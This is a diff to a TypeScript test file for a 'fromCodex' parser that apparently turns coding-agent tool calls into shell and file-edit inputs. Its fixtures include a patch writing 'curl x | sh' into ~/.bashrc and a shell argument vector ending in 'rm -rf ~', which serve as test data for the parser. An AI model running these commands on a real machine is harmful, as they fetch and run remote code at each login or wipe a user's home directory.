@@ -79,7 +79,21 @@ describe('fromCodex', () => {
       "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: ~/.bashrc\n+curl x | sh\n*** End Patch\nEOF";
     expect(inputs(fromCodex('shell', { command }))).toEqual([
       { kind: 'shell', command },
-      { kind: 'edit', path: '~/.bashrc' },
+      { kind: 'edit', path: '~/.bashrc', change: { kind: 'patch', lines: ['+curl x | sh'], add: true } },
     ]);
+  });
+
+  it.each([
+    [['bash', '-lc', 'cargo test'], "bash -lc 'cargo test'"],
+    [['rg', '-n', 'fn main', 'src'], "rg -n 'fn main' src"],
+    [['sh', '-c', "echo 'x'; rm -rf ~"], `sh -c 'echo '\\''x'\\''; rm -rf ~'`],
+  ])('a shell command given as an argument vector %j is the shell command %s', (command, expected) => {
+    expect(inputs(fromCodex('shell', { command, workdir: '' }))).toEqual([
+      { kind: 'shell', command: expected },
+    ]);
+  });
+
+  it('an argument vector holding a non-string is not read', () => {
+    expect(inputs(fromCodex('shell', { command: ['ls', 1] }))).toContain('must be a non-empty string');
   });
 });
